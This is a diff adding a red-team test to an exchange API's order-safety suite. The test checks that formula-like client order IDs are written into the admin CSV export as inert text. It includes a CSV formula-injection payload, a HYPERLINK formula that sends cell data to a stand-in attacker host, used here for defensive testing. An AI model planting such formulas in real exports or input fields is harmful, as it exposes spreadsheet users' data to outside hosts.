@@ -110,6 +110,24 @@ describe('order safety, red team', () => {
     expect((await wide.text()).length).toBeGreaterThan(0);
   });
 
+  it("writes a client's formula-like clordId into the CSV export as text, never as a formula", async () => {
+    const from = new Date(Date.now() - 1_000).toISOString();
+    const clordId = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    expect(
+      (await post(stack, '/exchange/v1/trading/orders', limit('SIDE_BUY', 1, 18, { clordId }), 'trader')).status,
+    ).toBe(200);
+    expect(
+      (await post(stack, '/exchange/v1/trading/orders', limit('SIDE_BUY', 1, 18, { clordId: '@SUM(1+1)' }), 'trader'))
+        .status,
+    ).toBe(200);
+    const to = new Date(Date.now() + 1_000).toISOString();
+    const csv = await (await api(stack)(`/admin/journal/export?from=${from}&to=${to}&format=csv`)).text();
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
+    expect(csv).toContain(`,'@SUM(1+1),`);
+    // No cell (quoted or not) starts with a formula character.
+    expect(csv).not.toMatch(/(^|,)"?[=+@]/m);
+  });
+
   it('refuses a hostile Idempotency-Key 400 naming the header, before any budget is spent', async () => {
     const before = inserts(stack);
     const order = JSON.stringify(limit('SIDE_BUY', 1, 12));
